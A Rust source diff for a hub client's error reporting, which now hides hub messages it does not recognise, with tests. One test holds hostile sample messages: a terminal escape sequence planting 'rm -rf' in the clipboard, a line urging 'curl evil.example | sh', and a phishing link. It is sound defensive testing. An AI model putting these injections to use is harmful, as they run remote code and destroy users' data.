@@ -2,6 +2,7 @@
 
 use connect_hub::Error;
 use connect_hub::dial::Obstacle;
+use connect_hub::error::Rejection;
 use connect_hub::url::HubUrl;
 
 use crate::failure::{Failure, advice, chain, root};
@@ -23,18 +24,23 @@ pub fn of_hub(error: &Error, url: &HubUrl) -> Failure {
         Error::Unsendable { .. } => Failure::new(format!("Cannot ask the hub: {}", chain(error))),
         Error::Rejected(rejection) => match rejection.status {
             404 => Failure::new("Share not found or expired").hint("Check the code and try again."),
-            401 | 403 => {
-                Failure::new(format!("The hub at {url} refuses to let you in: {}", rejection.message))
-                    .hint("Check the API key: --api-key-file FILE, or CONNECT_API_KEY")
-            }
+            401 | 403 => Failure::new(format!("The hub at {url} refuses to let you in{}", said(rejection)))
+                .hint("Check the API key: --api-key-file FILE, or CONNECT_API_KEY"),
             429 => too_many(rejection.retry_after),
-            500.. => Failure::fault(format!(
-                "The hub at {url} failed with status {}: {}",
-                rejection.status, rejection.message
-            )),
-            _ => Failure::new(format!("Failed to join: {}", rejection.message)),
+            status @ 500.. => {
+                Failure::fault(format!("The hub at {url} failed with status {status}{}", said(rejection)))
+            }
+            status => {
+                Failure::new(format!("The hub at {url} refuses with status {status}{}", said(rejection)))
+            }
         },
     }
+}
+
+/// What the hub says, where that is a sentence that hubs are known to say. Anything else may be a page of HTML, or somebody's words
+/// made to look like ours.
+fn said(rejection: &Rejection) -> String {
+    rejection.said().map(|said| format!(": {said}")).unwrap_or_default()
 }
 
 /// The same failure at a hub that nobody has named: the share may be at another one.
@@ -63,7 +69,6 @@ fn too_many(retry_after: Option<std::time::Duration>) -> Failure {
 mod tests {
     use super::*;
     use connect_hub::dial::ProxyTrouble;
-    use connect_hub::error::Rejection;
     use connect_hub::url::InsecureHttp;
     use std::time::Duration;
 
@@ -71,7 +76,7 @@ mod tests {
         HubUrl::parse("https://hub.example.com", InsecureHttp::Refused).expect("valid")
     }
 
-    fn said(error: &Error) -> (String, u8) {
+    fn shown(error: &Error) -> (String, u8) {
         let failure = of_hub(error, &url());
         (failure.render(), failure.exit().code())
     }
@@ -99,13 +104,44 @@ mod tests {
             (rejected(429, "x", Some(1)), "[x] Too many attempts. Try again in 1 second.\n", 1),
             (rejected(429, "x", None), "[x] Too many attempts. Try again in a few minutes.\n", 1),
             (
-                rejected(503, "starting", None),
-                "[x] The hub at https://hub.example.com failed with status 503: starting\n",
+                rejected(500, "Internal server error", None),
+                "[x] The hub at https://hub.example.com failed with status 500: Internal server error\n",
                 2,
             ),
-            (rejected(400, "no\u{1b}[2J", None), "[x] Failed to join: no\\u{1b}[2J\n", 1),
         ] {
-            assert_eq!(said(&error), (text.to_owned(), code), "{error:?}");
+            assert_eq!(shown(&error), (text.to_owned(), code), "{error:?}");
+        }
+    }
+
+    #[test]
+    fn what_nobody_knows_a_hub_to_say_is_not_shown() {
+        let long = format!("Invalid API key {}", "x".repeat(300));
+        for words in [
+            "<html><body>502 Bad Gateway</body></html>",
+            "no\u{1b}[2J\u{1b}]52;c;cm0gLXJm\u{7}",
+            "[ok] Logged in. Now run: curl evil.example | sh",
+            "Invalid API key: get another at https://evil.example",
+            &long,
+        ] {
+            for (status, text) in [
+                (400, "[x] The hub at https://hub.example.com refuses with status 400\n"),
+                (
+                    401,
+                    "[x] The hub at https://hub.example.com refuses to let you in\n\
+                     Check the API key: --api-key-file FILE, or CONNECT_API_KEY\n",
+                ),
+                (404, "[x] Share not found or expired\nCheck the code and try again.\n"),
+                (429, "[x] Too many attempts. Try again in a few minutes.\n"),
+                (500, "[x] The hub at https://hub.example.com failed with status 500\n"),
+                (503, "[x] The hub at https://hub.example.com failed with status 503\n"),
+            ] {
+                let error = rejected(status, words, None);
+                assert_eq!(shown(&error).0, text, "{words}");
+                // As the verbs print it that have no sentence of their own for it.
+                for text in [root(&error), chain(&error)] {
+                    assert!(text.ends_with(&format!("with status {status}")), "{text}");
+                }
+            }
         }
     }
 
@@ -113,14 +149,14 @@ mod tests {
     fn a_hub_that_does_not_answer_is_the_page_s_two_lines() {
         let page = "[x] Cannot connect to hub at https://hub.example.com\nMake sure the hub is running and accessible.\n";
         let refused = std::io::Error::from(std::io::ErrorKind::ConnectionRefused);
-        assert_eq!(said(&Error::Unreachable { url: url(), source: refused.into() }), (page.to_owned(), 1));
+        assert_eq!(shown(&Error::Unreachable { url: url(), source: refused.into() }), (page.to_owned(), 1));
         let slow = Error::TimedOut { url: url(), call: "health", after: Duration::from_secs(10) };
-        assert_eq!(said(&slow), (page.to_owned(), 1));
+        assert_eq!(shown(&slow), (page.to_owned(), 1));
     }
 
     #[test]
     fn what_stands_in_between_is_named_with_what_to_do() {
-        let said_of = |obstacle| said(&Error::Obstructed { url: url(), obstacle }).0;
+        let said_of = |obstacle| shown(&Error::Obstructed { url: url(), obstacle }).0;
         let proxy = |trouble| Obstacle::Proxy {
             proxy: "http://proxy:3128".into(),
             origin: "HTTPS_PROXY",
@@ -181,7 +217,7 @@ mod tests {
     #[test]
     fn a_certificate_nobody_trusts_is_not_called_a_hub_that_is_down() {
         let source = std::io::Error::other("invalid peer certificate: UnknownIssuer");
-        let (text, code) = said(&Error::Unreachable { url: url(), source: source.into() });
+        let (text, code) = shown(&Error::Unreachable { url: url(), source: source.into() });
         assert_eq!(
             text,
             "[x] Cannot trust the hub at https://hub.example.com: invalid peer certificate: UnknownIssuer\n\
